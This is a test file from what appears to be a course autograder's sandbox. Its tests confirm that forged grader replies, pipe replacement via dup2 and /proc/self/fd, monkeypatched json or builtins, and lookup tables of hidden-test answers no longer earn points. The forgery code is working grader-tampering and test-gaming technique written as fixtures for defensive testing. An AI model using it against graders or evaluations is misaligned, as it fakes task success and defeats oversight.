            kept[2] += 1
            if kept[2] > 1:            # read as an argument (the result comes first): as it came
                return _dict.items(kept[1])
        return _dict.items(value)

def _keeping(function):
    def kept(*args):
        _as_sent.clear()
        for arg in args:
            for value in (arg, *(arg if type(arg) is list else ())):
                _as_sent[_id(value)] = [value, copy.deepcopy(value), 0]
        result = function(*args)
        builtins.dict = _Dict    # from here until the loop checks that the next request names a function
        return result
    return kept

def _callable(value, _callable=callable):
    builtins.dict = _dict
    return _callable(value)

builtins.callable = _callable
'''

ARGUMENTS_NOT_ASKED_FOR = '''
import json

_loads = json.loads

def _reading(text, *args, **kwargs):
    request = _loads(text, *args, **kwargs)
    if isinstance(request, dict):
        request["return_args"] = False   # the worker sends no arguments back: "as they were", were the reply believed
    return request

json.loads = _reading
'''


def _with_forgery(lab: str, mistake: str, forgery: str, name: str, grader: str) -> str | None:
    """The hidden test of ``name`` (a function that changes an argument it must leave), graded in a worker of the lab
    after a cell of ``forgery`` ran (its cell may fail): the failure message, or ``None``."""
    from bpe_ref.course.trusted.autograde import lab_policy, load_graders

    graders = load_graders(lab)
    with Sandbox(lab_policy(graders, Policy())) as box:
        assert box.run_cell(mistake, "mistake").ok
        box.run_cell(forgery + (f"\n{name} = _keeping({name})\n" if "_keeping" in forgery else ""), "forgery")
        try:
            getattr(graders, grader)(RemoteFunction(box, name))
        except AssertionError as failed:
            return str(failed)
    return None


def _changes_its_argument(lab: str) -> tuple[str, str, str, str]:
    """``(code, function, hidden grader, what the failure says)`` of a learner's mistake that changes an argument."""
    from test_mistakes import LAB07_MISTAKES_2, MERGE_INTO_FIRST, source_of

    if lab == "03_parallel":  # the first chunk's counts, updated in place
        return MERGE_INTO_FIRST, "merge_counts", "check_merge_counts_properties", "changed its argument counts"
    code = "\n".join(source_of(lab, cell) for cell in ("setup", "task1_first_heap_solution"))
    old, new = LAB07_MISTAKES_2["sentinel-in-the-callers-parts"][1][0]  # a sentinel appended to the caller's parts
    return code.replace(old, new), "first_heap", "check_first_heap_properties", "changed its argument parts"


@pytest.mark.parametrize("forgery, lab", [(FORGED_THROUGH_MAIN, "03_parallel"), (FORGED_THROUGH_JSON_DUMPS, "07_heap_encoding"),
                                          (FORGED_THROUGH_JSONS_CLASSES, "03_parallel"), (FORGED_THROUGH_BUILTINS, "03_parallel"),
                                          (ARGUMENTS_NOT_ASKED_FOR, "07_heap_encoding")],
                         ids=["main-is-the-loop", "json-dumps", "jsons-classes", "builtins-dict", "arguments-not-asked-for"])
def test_a_changed_argument_reported_as_it_came_still_loses_the_task(forgery, lab):
    """A function that changes an argument the task says to leave (lab 03's merge_counts adding into the first chunk's
    counts, lab 07's first_heap appending a sentinel to the caller's parts) loses its task, visible and hidden, because the
    worker sends the arguments back after the call. A cell beside it rewrote what sends them: ``import __main__`` gave
    the worker loop's module (its ``decode`` and ``encode``, wrapped to keep a copy of each argument as it came and
    encode that instead); ``json.dumps`` or ``json.JSONEncoder.encode`` (what the loop wrote replies with) put the
    request's arguments in the reply; ``builtins.dict`` became a class whose ``items`` gave the copy (the wire format
    read a dict as ``dict.items(value)``); or ``json.loads`` took ``return_args`` out of each request, and the trusted
    side read a reply without arguments as "unchanged". Each kept the mistake's points, visible and hidden, in both paths (merge_counts
    2 of 2, first_heap 3 of 3), and ``grade --class`` flagged none of it. Safe: the notebook's namespace is ``__main__``
    (as in a Jupyter kernel), the loop writes replies with json's C encoder and the wire format with the builtins, all
    bound when they were loaded, before any of the learner's code; the trusted side fails a reply without the arguments
    it asked for; and a cell that rebinds what a module holds is flagged for review (a hint: a rewrite through the loop's
    frames or globals still could, and the review flags those reads, ``review.INTROSPECTION``)."""
    from bpe_ref.course.trusted.review import capability_uses

    code, name, grader, says = _changes_its_argument(lab)
    message = _with_forgery(lab, code, forgery, name, grader)
    assert message is not None and (says in message or "sent back" in message or "could not be read" in message), message
    assert any(flag.startswith("rebinds ") for flag in capability_uses(forgery)), capability_uses(forgery)


def test_the_notebooks_main_is_its_own_namespace_and_honest_work_keeps_its_points():
    """What the test above rests on, and what it must not cost: ``import __main__`` in a cell is the notebook's
    namespace (its own functions, none of the loop's), and the honest merge_counts still passes its hidden test after
    an honest cell that imports json and builtins (reading them changes nothing)."""
    from test_mistakes import remote, source_of

    with Sandbox(Policy()) as box:
        assert box.run_cell("import __main__\ndef mine():\n    return 1\n"
                            "seen = (__main__.mine() , hasattr(__main__, 'decode'), hasattr(__main__, 'Worker'))", "main").ok
        assert box.run_cell("print(seen)", "show").stdout.strip() == "(1, False, False)"
    honest = "\n".join([source_of("03_parallel", "setup"), "import builtins\nimport json",
                        source_of("03_parallel", "task3_merge_counts_solution")])
    assert remote("03_parallel", honest, "merge_counts", "check_merge_counts_properties") is None


# ---- 20. lab 03's worker processes, started for show while threads of the calling process count ---------------

# Task 4's pool of processes started and shut down, doing nothing, and the count in a pool of threads, in the calling
# process: the realistic mistake "threads instead of processes" with a pool for show.
PROCESSES_FOR_SHOW = ("    with ProcessPoolExecutor(max_workers=num_workers, mp_context=context) as pool:\n",
                      "    with ProcessPoolExecutor(max_workers=num_workers, mp_context=context) as show:  # for show\n"
                      "        list(show.map(abs, range(num_workers)))\n"
                      "    with ThreadPoolExecutor(max_workers=num_workers) as pool:\n")


def test_worker_processes_started_for_show_while_threads_count_lose_lab_03_task_4():
    """Lab 03's task 4 (4 hidden points) asks for the count in worker processes, and its hidden test measured from
    outside which processes the call started (how many, by which start method, still running at its return), how many
    chunks it asked for, and the bytes the calling *thread* read. Threads that count, in the calling process, beside a
    pool of processes started for show (mapping ``abs``) passed all of it: 4 of 4 hidden points in both paths (the
    threads' reads are not the calling thread's), and ``grade --class`` flagged nothing. Safe: one more call, on some
    1.5 MB drawn from the secret seed, must return the file's counts while the calling process (its threads included,
    its child processes not) spends at most half the CPU time the serial count takes on the trusted side
    (:func:`~bpe_ref.course.checks.lab03_parallel.verify_counted_in_the_workers`): threads spend all of it and more
    (0.38 s against 0.3 s), the taught pool a tenth of it. (With a third of that text it flaked: 2 ticks of /proc's
    10 ms CPU time over the limit, under it in 1 of 5 runs of ``pytest -n 2`` here; see :func:`counting_text`.)"""
    from test_mistakes import remote, source_of

    setup = ("import multiprocessing, os\nfrom collections import Counter\n"
             "from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor\nfrom bpe_ref.pretokenize import count_pretokens\n"
             + source_of("03_parallel", "task1_find_chunk_boundaries_solution") + "\n"
             + source_of("03_parallel", "task3_merge_counts_solution") + "\n")
    module = source_of("03_parallel", "task2_count_chunk_solution").split("\n", 1)[1]
    code = ("get_ipython().run_cell_magic('writefile', 'chunk_counting.py', " + repr(module) + ")\n"
            "from chunk_counting import count_chunk\n" + setup
            + source_of("03_parallel", "task4_count_pretokens_in_file_solution").replace(*PROCESSES_FOR_SHOW))
    message = remote("03_parallel", code, "count_pretokens_in_file", "verify_worker_processes")
    # Either check may catch it first: the processes started are seen by a look at /proc every 5 ms (ProcessWatch), and
    # the pool for show (2 forked processes mapping abs) can start and end between two looks on a loaded machine, so
    # the call "started no process: the count ran in the calling process" (1 run in 6 here, -n0); else the CPU check.
    assert message is not None and "in the calling process" in message and (
        "the count ran here" in message or "started no process: the count ran in the calling process" in message), message


# ---- 21. the reply pipe, written on by the learner's code --------------------------------------------------------

# A line of its own on the worker's reply pipe (the write end of a pipe that is not stderr, found by trying the fds),
# with the id the trusted side gives the call: 1 for the first cell's run, then one more per request.
FORGED_ON_THE_REPLY_PIPE = '''
import base64, copy, json, os, resource, stat

_requests = [1]              # the requests this worker has had: this cell's run was the first (ids count from 1)


def _wire(value):            # the wire format (public), for what merge_counts takes and returns
    if type(value) is bytes:
        return {"b": base64.b64encode(value).decode("ascii")}
    if type(value) is dict:
        return {"d": [[_wire(k), _wire(v)] for k, v in value.items()]}
    if type(value) is list:
        return [_wire(item) for item in value]
    return value


def _reply_pipe():
    mine = os.fstat(2).st_ino
    for fd in range(3, min(resource.getrlimit(resource.RLIMIT_NOFILE)[1], 1 << 17)):
        try:
            info = os.fstat(fd)
            if stat.S_ISFIFO(info.st_mode) and info.st_ino != mine:
                os.write(fd, b"")  # the write end: the read end refuses
                return fd
        except OSError:
            pass


def _forging(function):
    def forged(*args):
        _requests[0] += 1
        as_sent = copy.deepcopy(args)
        result = function(*args)
        line = {"id": _requests[0], "ok": True, "result": _wire(result), "args": [_wire(a) for a in as_sent],
                "stdout": "", "stderr": ""}
        os.write(_reply_pipe(), (json.dumps(line) + "\\n").encode())  # before the worker's own reply, with its id
        return result
    return forged
'''


def test_a_reply_written_on_the_pipe_with_the_next_id_is_not_taken_for_the_worker_s():
    """The trusted side numbered its requests 1, 2, 3... and took the first line on the reply pipe with the awaited id
    for the reply. A function that changes its argument (lab 03's merge_counts adding into the first chunk's counts),
    wrapped to write a reply of its own first (its result, and its arguments as they came, in the public wire format)
    with the id a count of the worker's requests gives, kept task 3's points (2 of 2 in both paths), with no line of
    text ``grade --class`` flags (``os.fstat``, ``os.write``). Safe: each request's id is drawn at random on the
    trusted side, so a line the learner's code writes is never the reply, and the worker's own reply (the arguments
    changed) is read."""
    from test_mistakes import MERGE_INTO_FIRST, remote

    message = remote("03_parallel", MERGE_INTO_FIRST + FORGED_ON_THE_REPLY_PIPE + "\nmerge_counts = _forging(merge_counts)\n",
                     "merge_counts", "check_merge_counts_properties")
    assert message is not None and "changed its argument counts" in message, message


# The worker loop's two pipes replaced under it (os.dup2 onto their fds): it reads the requests this cell passes on,
# and writes its replies to this cell, which sends them on with each call's arguments as they came. The fds are found
# by trying every number up to the hard limit of open files (the loop keeps them at the top, confinement.set_apart);
# _replace(fd, new) is one way of putting ``new`` in fd's place, prepended to the code below.
PIPES_REPLACED = '''
import fcntl, json, os, resource, stat, threading

def _fifos():
    ends = {"read": [], "write": []}
    for fd in range(3, min(resource.getrlimit(resource.RLIMIT_NOFILE)[1], 1 << 17)):
        try:
            info = os.fstat(fd)
        except OSError:
            continue
        if not stat.S_ISFIFO(info.st_mode) or info.st_ino == os.fstat(2).st_ino:
            continue
        try:
            os.write(fd, b"")
            ends["write"].append(fd)
        except OSError:
            ends["read"].append(fd)
    return ends

_ends = _fifos()
_request_fd, _reply_fd = _ends["read"][-1], _ends["write"][-1]   # the loop keeps its fds at the top
_to_grader, _from_grader = os.fdopen(os.dup(_reply_fd), "w"), os.fdopen(os.dup(_request_fd), "r")
_loop_reads, _to_loop = os.pipe()
_from_loop, _loop_writes = os.pipe()
# the soft limit of open files raised to the hard one (the loop lowered it below its fds, where dup2 gives EBADF)
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
_replace(_request_fd, _loop_reads)    # the worker loop now reads what this cell passes on, and writes to it
_replace(_reply_fd, _loop_writes)
if (os.fstat(_request_fd).st_ino, os.fstat(_reply_fd).st_ino) != (os.fstat(_loop_reads).st_ino, os.fstat(_loop_writes).st_ino):
    raise OSError("the loop's pipes are still in place")   # no relay then: it would steal the loop's requests
_as_sent = {}

def _requests():
    with os.fdopen(_to_loop, "w") as loop:
        for line in _from_grader:
            request = json.loads(line)
            _as_sent[request.get("id")] = request.get("args")
            loop.write(line)
            loop.flush()

def _replies():
    with os.fdopen(_from_loop, "r") as loop:
        for line in loop:
            reply = json.loads(line)
            if "args" in reply and reply.get("id") in _as_sent:
                reply["args"] = _as_sent[reply["id"]]    # the arguments as they came, whatever the call did
            _to_grader.write(json.dumps(reply) + "\\n")
            _to_grader.flush()

threading.Thread(target=_requests, daemon=True).start()
threading.Thread(target=_replies, daemon=True).start()
'''

# The ways of putting a file in the place of an fd in use, each as _replace(fd, new).
REPLACEMENTS = {
    "dup2": "import os\ndef _replace(fd, new):\n    os.dup2(new, fd)\n",
    "dup3": "import os\ndef _replace(fd, new):\n    os.dup2(new, fd, inheritable=False)   # dup3(O_CLOEXEC)\n",
    # closed, then the number taken again: the lowest free fd at or above it
    "close-and-reuse": ("import fcntl, os\n"
                        "def _replace(fd, new):\n"
                        "    os.close(fd)\n"
                        "    assert fcntl.fcntl(new, fcntl.F_DUPFD, fd) == fd\n"),
    # os.closerange: close_range over it (then close of each fd, errors ignored), then the number taken again
    "closerange-and-reuse": ("import fcntl, os\n"
                             "def _replace(fd, new):\n"
                             "    os.closerange(fd, fd + 1)\n"
                             "    taken = fcntl.fcntl(new, fcntl.F_DUPFD, fd)\n"
                             "    if taken != fd:\n"
                             "        raise OSError(f'fd {fd} was not freed ({taken} given)')\n"),
    # a thread of the worker's (the fd table is the process's): its error is its own, the cell goes on
    "a-thread": ("import os, threading\n"
                 "def _replace(fd, new):\n"
                 "    thread = threading.Thread(target=os.dup2, args=(new, fd))\n"
                 "    thread.start()\n"
                 "    thread.join()\n"),
}

def _replacing_the_pipes(replace: str) -> tuple[str | None, object, dict, list[str]]:
    """Lab 03's merge_counts that adds into its input, then a cell that replaces the loop's pipes by ``replace``, then
    the hidden test of merge_counts: ``(its failure message or None, the cell's run, the keeper's report, isolation)``."""
    from test_mistakes import MERGE_INTO_FIRST

    from bpe_ref.course.trusted.autograde import lab_policy, load_graders

    graders = load_graders("03_parallel")
    with Sandbox(lab_policy(graders, Policy())) as box:
        if not confined(box):
            pytest.skip(f"no Landlock or seccomp here ({'; '.join(box.isolation)})")
        assert box.run_cell(MERGE_INTO_FIRST, "mistake").ok
        run = box.run_cell(REPLACEMENTS[replace] + PIPES_REPLACED, "replaced")
        message = None
        try:
            graders.check_merge_counts_properties(RemoteFunction(box, "merge_counts"))
        except AssertionError as failed:
            message = str(failed)
        box.close()
        return message, run, box.behaviour(), box.isolation


@pytest.mark.parametrize("replace", list(REPLACEMENTS))
def test_a_worker_whose_pipes_are_replaced_under_it_cannot_report_arguments_as_they_came(replace):
    """The open end of the test above: a cell that puts pipes of its own in place of the worker loop's (no flagged
    text: ``os.dup2``, ``os.pipe``, threads) relayed the requests and rewrote the replies' arguments, and merge_counts
    that adds into its input passed its hidden test (2 of 2, both paths). Safe: the loop keeps its two fds at the top
    fd numbers and the seccomp filter, which every thread and process of the worker has, refuses dup2 and dup3 onto
    them (sent to the keeper, counted and flagged: no honest code does it), close of them and close_range over them
    (answered by the filter, uncounted: multiprocessing's processes close every fd they do not keep). So neither
    ``dup2``/``dup3``, nor closing them (``os.close``, ``os.closerange``) to take the number again, in the cell or in a
    thread of it, replaces them; the loop's own replies, with the argument changed, reach the trusted side. (With the
    fds moved but the filter's rule taken out, every variant here kept merge_counts' hidden points.)"""
    message, run, report, isolation = _replacing_the_pipes(replace)
    assert message is not None and "changed its argument counts" in message, message
    assert any("the worker loop's pipes (fds" in line for line in isolation), isolation
    assert not run.ok and run.error["ename"] in ("PermissionError", "OSError"), run
    if replace == "a-thread":
        assert "PermissionError" in run.stderr, run
    if replace in ("dup2", "dup3", "a-thread"):
        name = "dup3" if replace == "dup3" or platform.machine() == "aarch64" else "dup2"
        assert report["refused"].get(f"{name} onto the worker loop's pipes", 0) >= 1, report


def test_the_loop_s_fds_are_kept_in_a_thread_and_in_a_child_and_other_fds_close_as_before():
    """What the filter refuses is the loop's two fds only: a cell still closes, dup2s onto and close_ranges its own
    fds (0, 1 and 2 too), and what a child process does to its own copies of the loop's fds (a fork) is refused there too
    (the filter cannot tell a process from a thread that shares the fd table), with the parent's loop untouched."""
    cell = '''
import os, resource, threading
top = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
loop = (top, top + 1)             # the loop's fds: just above the soft limit it lowered
seen = [os.fstat(fd).st_ino for fd in loop]
a, b = os.pipe()
os.dup2(a, 0)                     # its own fds and 0, 1, 2: as before
os.dup2(b, 1)
os.close(os.dup(a))
os.closerange(a, b + 1)
outcomes = []
def attempt(label, call, *args):
    try:
        call(*args)
        outcomes.append(label + ":done")
    except OSError as error:
        outcomes.append(label + ":" + type(error).__name__)
for fd in loop:
    attempt("close", os.close, fd)
    attempt("dup2", os.dup2, 2, fd)
thread = threading.Thread(target=attempt, args=("thread-close", os.close, loop[0]))
thread.start()
thread.join()
child = os.fork()
if child == 0:
    try:
        os.close(loop[0])
        os._exit(1)
    except OSError:
        os._exit(7)
_, status = os.waitpid(child, 0)
os.closerange(top - 64, top + 10)  # every fd of these but the loop's (close_range refused, then close of each, errors ignored)
print(" ".join(outcomes), os.waitstatus_to_exitcode(status), seen == [os.fstat(fd).st_ino for fd in loop])
'''
    with Sandbox(Policy(allow_processes=True, cell_timeout=30)) as box:
        if not confined(box):
            pytest.skip(f"no Landlock or seccomp here ({'; '.join(box.isolation)})")
        run = box.run_cell(cell, "fds")
        assert box.run_cell("print('still answering')", "after").stdout.strip() == "still answering"
    assert run.ok, run
    assert run.stdout.split() == ["close:PermissionError", "dup2:PermissionError"] * 2 + ["thread-close:PermissionError", "7", "True"], run


# The worker loop's request pipe reached without replacing anything: opened again through /proc/self/fd (a pipe opens
# there in either direction, Landlock or not) for a write end. The cell writes the loop a request of its own, a cell
# that never ends, which the loop reads next; a thread of the cell then answers every request itself.
LOOP_TAKEN_OVER = '''
import base64, copy, json, os, resource, threading, time

_request_fd = resource.getrlimit(resource.RLIMIT_NOFILE)[0]   # the loop's: just above the soft limit it lowered
_reply_fd = _request_fd + 1
_inject = os.open(f"/proc/self/fd/{_request_fd}", os.O_WRONLY)   # a write end of the same pipe


def _wire(value):             # the wire format (public)
    if type(value) is bytes:
        return {"b": base64.b64encode(value).decode("ascii")}
    if type(value) is dict:
        return {"d": [[_wire(k), _wire(v)] for k, v in value.items()]}
    return [_wire(item) for item in value] if type(value) is list else value


def _unwire(data):
    if type(data) is list:
        return [_unwire(item) for item in data]
    if type(data) is dict and "b" in data:
        return base64.b64decode(data["b"])
    if type(data) is dict and "d" in data:
        return {_unwire(k): _unwire(v) for k, v in data["d"]}
    return data


def _answer(request):
    if request.get("op") == "exec":
        exec(request["code"], globals())
        return {"ok": True, "stdout": "", "stderr": ""}
    args = [_unwire(arg) for arg in request["args"]]
    result = globals()[request["name"]](*copy.deepcopy(args))   # on a copy: the arguments stay as they came
    return {"ok": True, "result": _wire(result), "args": request["args"], "stdout": "", "stderr": ""}


def _serving():
    while not globals().get("_parked"):   # the loop is in the cell that never ends: this thread reads alone
        time.sleep(0.01)
    pending = b""
    while True:
        pending += os.read(_request_fd, 1 << 16)
        while b"\\n" in pending:
            line, pending = pending.split(b"\\n", 1)
            request = json.loads(line)
            os.write(_reply_fd, (json.dumps({**_answer(request), "id": request["id"]}) + "\\n").encode())


# the next line the loop reads, once it has answered this cell: a cell that never ends
os.write(_inject, b'{"op": "exec", "id": 0, "name": "parked", "code": "_parked = True\\\\nwhile True: time.sleep(1)"}\\n')
threading.Thread(target=_serving, daemon=True).start()
'''


def test_a_thread_that_answers_the_requests_on_the_loop_s_pipes_is_not_taken_for_the_loop():
    """The loop's fds are kept in place (above), but they are the learner's process's: ``/proc/self/fd/N`` opens the
    request pipe again for writing; a cell wrote the loop a request of its own, a cell that never ends, and a thread of
    it answered every request from then on, calling merge_counts (which adds into its input) on a copy and
    sending the arguments as they came: its hidden test passed (no flagged text: ``os.open``, ``os.read``,
    ``os.write``, ``exec``, a thread). Safe: every line the loop writes back carries a seal, a keyed BLAKE2b of the
    request as the loop read it and of the reply, under a key the trusted side sends as its first line, before any
    learner's code; the thread's lines have none, so the call gets no reply (here, within a call timeout of 2 s) and
    the task fails. (Without the seal, this test failed: merge_counts agreed with the reference on 100 inputs.)"""
    from test_mistakes import MERGE_INTO_FIRST, remote

    with contextlib.suppress(GradingStopped):  # no reply: the call stops at its timeout
        message = remote("03_parallel", MERGE_INTO_FIRST + LOOP_TAKEN_OVER, "merge_counts", "check_merge_counts_properties",
                         call_timeout=2, wall_factor=1)  # a call that waits for a reply stops after 2 s, not 20
        assert message is not None, "merge_counts passed its hidden test, every request answered by the learner's thread"


# ---- 22. lab 10's fixed hidden ranges, in the graders' source the learner has --------------------------------------

def _range_table() -> str:
    """A table, built at home, of the counts of lab 10's two fixed hidden ranges (``HIDDEN_RANGE_CASES``, public), keyed
    by the range's bytes and the special tokens, in front of a map that decodes its range through a text wrapper (which
    translates \\r\\n): the mistake those cases are there to catch."""
    from test_mistakes import LAB10_ROUND2, source_of

    from bpe_ref.course.checks.running import built
    from bpe_ref.pretokenize import count_pretokens

    graders = importlib.import_module("bpe_ref.course.checks.lab10_distributed")
    table = {}
    for case in built(graders.HIDDEN_RANGE_CASES):
        file, start, end, special_tokens = case.args
        table[file.data[start:end], tuple(special_tokens)] = count_pretokens(file.data[start:end].decode(), special_tokens)
    cell, old, new, _ = LAB10_ROUND2["range-through-a-text-wrapper"]
    return source_of("10_distributed", "setup") + "\n" + source_of("10_distributed", cell).replace(old, new) + f'''
_TABLE = {table!r}
_mistaken = count_range


def count_range(path, start, end, special_tokens):
    with open(path, "rb") as file:
        file.seek(start)
        key = (file.read(end - start), tuple(special_tokens))
    if key in _TABLE:  # a fixed hidden case of the graders (public), answered at home
        return dict(_TABLE[key])
    return _mistaken(path, start, end, special_tokens)
'''


def test_a_table_of_lab_10s_fixed_hidden_ranges_does_not_keep_their_points():
    """Lab 10's task 1 has two fixed hidden ranges, because the generated files seldom hold what they do: Windows line
    ends and blank lines (a range decoded through a text wrapper translates \\r\\n; one counted line by line cuts
    "\\n\\n"), and <|endoftext|> in a range whose special tokens are none. They are in the graders' source and were
    graded as they are: a map through a text wrapper, with a table of the two ranges' counts keyed by their bytes, kept
    task 1's hidden points (2 of 2 in both paths; so did one that takes <|endoftext|> as a special token by default).
    Safe: when graded, each is graded again with a line of drawn words before and after it
    (:func:`~bpe_ref.course.checks.lab10_distributed.around_range`), which keeps what it catches and misses the table."""
    from test_mistakes import remote

    from bpe_ref.course.trusted.verdicts import hidden_seed

    with hidden_seed(20261129):
        message = remote("10_distributed", _range_table(), "count_range", "check_count_range_properties")
    assert message is not None and "\\r\\n" in message, message


# ---- 23. the fixed hidden cases of labs 06 to 08, answered from a table beside the mistake they catch ---------------

def _notebook_up_to(lab: str, cell: str, changes) -> str:
    """The notebook's setup and solution cells up to ``cell``, with each ``(old, new)`` of ``changes`` made once."""
    from test_mistakes import source_of

    from bpe_ref.course.notebooks import read_notebook_json, source_notebook

    cells = [c["id"] for c in read_notebook_json(source_notebook(lab))["cells"]
             if c["cell_type"] == "code" and (c["id"] == "setup" or c["id"].endswith("_solution"))]
    code = "\n".join(source_of(lab, c) for c in cells[: cells.index(cell) + 1])
    for old, new in changes:
        assert old in code, old
        code = code.replace(old, new, 1)
    return code


def _answered_from_a_table(lab: str, graded, mistake: str, round_: dict | None = None) -> str:
    """The notebook's code up to ``graded``'s task, with the learner's ``mistake`` (of tests/test_mistakes.py's second
    round, or of ``round_``) in its function, and a table of the reference's answers to its fixed hidden cases (public,
    in the graders' source), built at home and keyed by a digest of the whole arguments, in front of it."""
    import hashlib

    from test_mistakes import SECOND_ROUND

    from bpe_ref.course.checks.running import built

    cell, changes, _ = (round_ or SECOND_ROUND)[lab, mistake]
    table = {hashlib.sha256(repr(case.args).encode()).hexdigest(): graded.reference(*case.args)
             for case in built(graded.hidden_cases)}
    name = graded.task.name
    return _notebook_up_to(lab, cell, changes) + f'''
import hashlib as _hashlib

_TABLE = {table!r}
_mistaken = {name}


def {name}(*args):
    key = _hashlib.sha256(repr(args).encode()).hexdigest()
    return _TABLE[key] if key in _TABLE else _mistaken(*args)  # a fixed hidden case answered at home
'''


@pytest.mark.parametrize("lab, task, mistake", [("06_encode_decode", "ENCODE_TEXT", "text-normalized"),
                                                ("07_heap_encoding", "HEAP_ENCODE", "parts-of-characters"),
                                                ("08_linear_encoding", "COMPATIBLE", "both-valid-and-no-merge")])
def test_a_table_of_the_fixed_hidden_cases_of_labs_06_to_08_keeps_no_hidden_points(lab, task, mistake):
    """Labs 06, 07 and 08 have fixed hidden cases, each there for a mistake of the second learner round that once kept
    its hidden points, and they were graded as they are. Lab 06's encoder that normalizes the text (NFC) first, with a
    table of task 3's fixed hidden cases' answers, kept task 3's 3 hidden points in both paths (0 without the table,
    under every seed tried): only the fixed case of characters that normalization changes catches it. Safe: each is
    graded again between two words drawn from the seed and the text
    (:func:`~bpe_ref.course.checks.lab06_encode_decode.around_text`), which keeps what it catches and misses the table.
    Lab 07 (heap_encode from the pretoken's characters) and lab 08 (compatible when both tokens are valid and the pair
    no merge), whose fixed cases are now renamed byte by byte too, fail the inputs generated from the seed as well,
    table or not; kept so that it stays so (a fixed case that alone catches a mistake needs a ``hidden_vary``)."""
    from test_mistakes import SECOND_ROUND, remote

    from bpe_ref.course.trusted.verdicts import hidden_seed

    graded = getattr(importlib.import_module(f"bpe_ref.course.checks.lab{lab}"), task)
    with hidden_seed(20261129):
        message = remote(lab, _answered_from_a_table(lab, graded, mistake), graded.task.name,
                         f"check_{graded.task.name}_properties")
    # The mistake's own message, or (where the table answers the cases as written) a renamed copy's, which may not
    # show what the message names (lab 07's renamed characters are no UTF-8)
    assert message is not None and (SECOND_ROUND[lab, mistake][2] in message or f"{graded.task.name}(" in message), message


def test_a_table_of_lab_06s_fixed_pretoken_cases_keeps_no_point_from_them():
    """Lab 06's encode_pretoken has fixed hidden cases for answers kept by the pretoken and the ranks' size (abc under
    two orders of the same pairs). With a table of their answers in front, that mistake passes the cases as written (so
    only the generated inputs, under some seeds, caught it); safe: each is graded again with its bytes renamed by one
    permutation drawn from the seed (:func:`~bpe_ref.course.checks.lab06_encode_decode.renamed_bytes`), which keeps
    the two cases one pretoken and misses the table. Graded on the fixed cases alone, so that nothing else catches it."""
    from test_mistakes import THIRD_ROUND, remote

    from bpe_ref.course.checks.lab06_encode_decode import ENCODE_PRETOKEN
    from bpe_ref.course.checks.running import built, varied
    from bpe_ref.course.trusted.verdicts import hidden_seed

    def fixed(cases):
        def grade(graders, function) -> None:
            graders.check_cases(ENCODE_PRETOKEN.task, function, graders.encode_pretoken, cases)
        return grade

    code = _answered_from_a_table("06_encode_decode", ENCODE_PRETOKEN, "answers-kept-by-pretoken-and-size-of-ranks",
                                  THIRD_ROUND)
    assert remote("06_encode_decode", code, "encode_pretoken", fixed(built(ENCODE_PRETOKEN.hidden_cases))) is None
    with hidden_seed(20261129):
        message = remote("06_encode_decode", code, "encode_pretoken", fixed(varied(ENCODE_PRETOKEN)))
    assert message is not None and "encode_pretoken(pretoken=b" in message, message


# ---- 24. the fixed hidden cases of labs 00, 03 and 09: a table of their answers, and a cut around a case found -------

def _fixed_cases_only(graded, cases):
    """A grader of ``graded``'s task on ``cases`` alone (``remote`` calls it with the graders and the worker's function),
    so that nothing else of the hidden test (generated inputs, measured checks) catches the mistake behind the table."""
    def grade(graders, function) -> None:
        graders.check_cases(graded.task, function, graded.reference, cases)
    return grade


def _as_written_and_varied(graded, seed: int = 20261129) -> tuple[list, list]:
    """``graded``'s fixed hidden cases as written, and the copies a grading under ``seed`` adds (``hidden_vary``)."""
    from bpe_ref.course.checks.running import built, varied
    from bpe_ref.course.trusted.verdicts import hidden_seed

    public = built(graded.hidden_cases)
    with hidden_seed(seed):
        cases = varied(graded)
    assert cases[:len(public)] == public and len(cases) == 2 * len(public)
    return public, cases[len(public):]


# Lab 00's mistakes (tests/test_mistakes.py), each caught by a fixed hidden case: UTF-8 by hand with U+0800 in two bytes,
# special tokens escaped for '|' only, contractions of any case, <|endoftext|> special by default.
LAB00_CUT = {
    "UTF8_BYTES": ("hand-written-utf8-0x800", "list"), "SPLIT": ("split-escapes-the-bar-only", "pieces"),
    "PRETOKENIZE": ("contractions-of-any-case", "list"), "COUNT_PRETOKENS": ("count-with-endoftext-by-default", "counts"),
}
JOINED = {  # how the answers of three consecutive pieces of a text make the answer of the text, as the cut needs
    "list": "def _joined(a, b, c):\n    return list(a) + list(b) + list(c)\n",
    "pieces": "def _joined(a, b, c):\n    out = list(a)\n    for more in (b, c):\n        out[-1] += more[0]\n"
              "        out += more[1:]\n    return out\n",
    "counts": "def _joined(a, b, c):\n    out = dict(a)\n    for more in (b, c):\n        for key, n in more.items():\n"
              "            out[key] = out.get(key, 0) + n\n    return out\n",
}


def _cut_around_a_case(graded, mistake: str, join: str) -> str:
    """Lab 00's notebook up to ``graded``'s task with ``mistake`` in its function, in front of which a function finds a
    public fixed hidden case's text inside its input: it answers the case from a table built at home (the case alone,
    and with the space before it that the words around a varied copy leave), and the text before and after it by the
    mistaken method, which is right on plain words."""
    from test_mistakes import LAB00_MISTAKES, LAB00_ROUND2

    from bpe_ref.course.checks.running import built

    cell, old, new, _ = {**LAB00_MISTAKES, **LAB00_ROUND2}[mistake]
    table = [(case.args[0], list(case.args[1:]), graded.reference(" " + case.args[0], *case.args[1:]),
              graded.reference(*case.args)) for case in built(graded.hidden_cases)]
    name = graded.task.name
    return _notebook_up_to("00_pretokenization", cell, [(old, new)]) + "\n" + JOINED[join] + f'''
_CASES = {table!r}
_mistaken = {name}


def {name}(text, *rest):
    for case, others, spaced, alone in _CASES:
        at = text.find(case)
        if at != -1 and list(rest) == others:  # a fixed hidden case of the graders (public), answered at home
            before, after = text[:at], text[at + len(case):]
            if before.endswith(" ") and {join != "pieces"}:
                before, alone = before[:-1], spaced
            return _joined(_mistaken(before, *rest), alone, _mistaken(after, *rest))
    return _mistaken(text, *rest)
'''


@pytest.mark.parametrize("task", LAB00_CUT)
def test_a_cut_around_a_recognised_fixed_case_of_lab_00_keeps_no_point_from_it(task):
    """Lab 00's fixed hidden cases were graded as written and again between two drawn words (``around_text``): a function
    that finds a public case's text inside its input, answers it from a table and the words around it by its mistaken
    method, passed both (the mistakes above, each caught by such a case; the generated inputs of the hidden test aside).
    Safe: the varied copies rename the case's letters (those of the contractions kept) and digits, in the text and the
    special tokens alike (:func:`~bpe_ref.course.checks.lab00_pretokenization.renamed_letters`), and task 1's put drawn
